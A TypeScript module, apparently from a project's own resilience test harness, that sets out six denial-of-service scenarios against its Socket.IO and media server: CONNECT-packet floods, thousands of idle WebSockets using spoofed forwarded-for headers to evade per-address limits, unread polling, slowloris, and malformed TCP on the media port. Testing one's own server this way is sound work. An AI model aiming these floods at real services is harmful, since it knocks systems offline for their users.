// Engine.IO connections that cost the server something before the client is identified.
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { PROTOCOL } from '@distansmote/shared/protocol.ts';
import { WebSocket } from 'ws';
import { fetchAs, isTime, messageOf } from '../attackers.ts';
import { comeAndGo } from '../newcomer.ts';
import type { Attack, Phase } from '../phase.ts';

const WAIT_OPTIONS = '/socket.io/?EIO=4&transport=polling';
/** The separator of packets in a body (Engine.IO 4). */
const RECORD_SEPARATOR = '\u001E';
/** As many as fit into 100 kB, the former limit of a body, and into a smaller one. */
const CONNECTS_IN_BODY = [4_500, 2_000, 100];
const MAX_BODIES = 300;
const OPENED_FIRST = 230;

/** @returns the session's id; undefined if it was refused. */
async function openPolling(attack: Attack, address: string): Promise<string | undefined> {
  const answer = await fetchAs(attack, address, WAIT_OPTIONS);
  const text = await answer?.text().catch(() => '');
  return /"sid":"([^"]+)"/.exec(text ?? '')?.[1];
}

const connectPackets: Phase = {
  name: 'connectPackets',
  says: 'bodies of thousands of CONNECT packets each, all from one address, whose colleagues want to join',
  finding: 1,
  async run(attack) {
    const address = '10.1.0.1';
    const { callId } = await attack.target.makeSpace('Kollegan');
    const bodyOf = (connects: number) =>
      Array.from({ length: connects }, () => `40{"protocol":${PROTOCOL}}`).join(RECORD_SEPARATOR);
    const bodies = CONNECTS_IN_BODY.map(bodyOf);
    const post = (sid: string, index: number) =>
      fetchAs(attack, address, `${WAIT_OPTIONS}&sid=${sid}`, {
        method: 'POST',
        body: bodies[index % bodies.length] ?? '',
      });
    const flood = async () => {
      for (let posted = 0; posted < MAX_BODIES && isTime(attack);) {
        // All of them open before the first is used, so that a limit on connected sockets sees none of them.
        const opening = Array.from({ length: OPENED_FIRST }, () => openPolling(attack, address));
        const sids = (await Promise.all(opening)).filter((sid) => sid !== undefined);
        await Promise.all(sids.map(post));
        posted += sids.length;
        if (sids.length < OPENED_FIRST) await pause(1_000);
      }
    };
    const colleague = async () => {
      while (isTime(attack)) {
        const code = await comeAndGo(attack.target.port, {
          callId,
          address,
          secret: undefined,
        }).then(
          () => 'colleague joined',
          (error: unknown) => `colleague kept out, ${messageOf(error)}`,
        );
        attack.tally.answer(code);
        await pause(2_000);
      }
    };
    await Promise.all([flood(), colleague()]);
  },
};

const idleEngines: Phase = {
  name: 'idleEngines',
  says: '3 000 engine connections by WebSocket that never join, from three addresses',
  finding: 13,
  async run(attack) {
    const sockets: WebSocket[] = [];
    const url = `${attack.target.url.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`;
    for (let count = 0; count < 3_000 && isTime(attack); count += 1) {
      const headers = { 'x-forwarded-for': `10.2.0.${(count % 3) + 1}` };
      const socket = new WebSocket(url, { headers });
      attack.tally.send('connection');
      socket.on('open', () => attack.tally.answer('opened'));
      socket.on('error', (error) => attack.tally.answer(error.message));
      socket.on('close', () => attack.tally.answer('closed'));
      sockets.push(socket);
      if (count % 20 === 0) await pause(20);
    }
    while (isTime(attack)) await pause(500);
    for (const socket of sockets) socket.terminate();
  },
};

/** As many as one address may open at once, from each address; together more than the process accepts. */
const SOCKETS_OF_ADDRESS = 850;
const ADDRESSES = 13;

const stayingSockets: Phase = {
  name: 'stayingSockets',
  says: '11 050 sockets from thirteen addresses that connect, answer pings and request nothing',
  finding: 13,
  weight: 2,
  async run(attack) {
    const sockets: WebSocket[] = [];
    const url = `${attack.target.url.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`;
    for (let count = 0; count < SOCKETS_OF_ADDRESS * ADDRESSES && isTime(attack); count += 1) {
      const headers = { 'x-forwarded-for': `10.18.0.${(count % ADDRESSES) + 1}` };
      const socket = new WebSocket(url, { headers, perMessageDeflate: false });
      attack.tally.send('socket');
      socket.on('open', () => socket.send(`40{"protocol":${PROTOCOL}}`));
      socket.on('message', (data: Buffer) => {
        const text = data.toString();
        if (text === '2') socket.send('3');
        else if (text.startsWith('40')) attack.tally.answer('connected');
      });
      socket.on('error', (error) => attack.tally.answer(error.message));
      socket.on('close', () => attack.tally.answer('closed'));
      sockets.push(socket);
      if (count % 20 === 0) await pause(15);
    }
    while (isTime(attack)) await pause(500);
    for (const socket of sockets) socket.terminate();
  },
};

const unreadPolling: Phase = {
  name: 'unreadPolling',
  says: 'polling clients that send requests and never fetch an answer',
  finding: 5,
  async run(attack) {
    const client = async (index: number) => {
      const address = `10.3.0.${index + 1}`;
      while (isTime(attack)) {
        const sid = await openPolling(attack, address);
        if (sid === undefined) {
          await pause(1_000);
          continue;
        }
        const post = (body: string) =>
          fetchAs(attack, address, `${WAIT_OPTIONS}&sid=${sid}`, { method: 'POST', body });
        let answer = await post(`40{"protocol":${PROTOCOL}}`);
        for (let times = 0; times < 50 && answer?.status === 200 && isTime(attack); times += 1) {
          const asks = Array.from({ length: 200 }, (_, id) => `42${id}["request","leave",{}]`);
          answer = await post(asks.join(RECORD_SEPARATOR));
        }
        await pause(200);
      }
    };
    await Promise.all(Array.from({ length: 10 }, (_, index) => client(index)));
  },
};

async function openTcp(port: number): Promise<Socket> {
  const socket = connect(port, '127.0.0.1');
  socket.on('error', () => undefined);
  await once(socket, 'connect', { signal: AbortSignal.timeout(5_000) });
  return socket;
}

const slowloris: Phase = {
  name: 'slowloris',
  says: '500 HTTP requests that send a byte a second',
  async run(attack) {
    const sockets: Socket[] = [];
    const head = 'GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ';
    for (let count = 0; count < 500 && isTime(attack); count += 1) {
      try {
        const socket = await openTcp(attack.target.port);
        attack.tally.send('connection');
        socket.on('close', () => attack.tally.answer('closed'));
        socket.write(head);
        sockets.push(socket);
      } catch {
        attack.tally.answer('not connected');
      }
    }
    while (isTime(attack)) {
      for (const socket of sockets) if (!socket.destroyed) socket.write('x');
      await pause(1_000);
    }
    for (const socket of sockets) socket.destroy();
  },
};

const mediaTcp: Phase = {
  name: 'mediaTcp',
  says: '3 000 TCP connections on the media port, a third of them with garbage',
  finding: 13,
  async run(attack) {
    const sockets: Socket[] = [];
    for (let count = 0; count < 3_000 && isTime(attack); count += 1) {
      try {
        const socket = await openTcp(attack.target.mediaPort);
        attack.tally.send('connection');
        socket.on('close', () => attack.tally.answer('closed'));
        if (count % 3 === 0) {
          // By RFC 4571 the first two bytes are a length: these announce much and send little.
          socket.write(
            Buffer.from([
              0xff,
              0xff,
              ...Array.from({ length: 1_000 }, () => attack.draw.below(256)),
            ]),
          );
        }
        sockets.push(socket);
      } catch {
        attack.tally.answer('not connected');
      }
    }
    while (isTime(attack)) await pause(500);
    for (const socket of sockets) socket.destroy();
  },
};

export const engineFloods = [
  connectPackets,
  idleEngines,
  stayingSockets,
  unreadPolling,
  slowloris,
  mediaTcp,
];
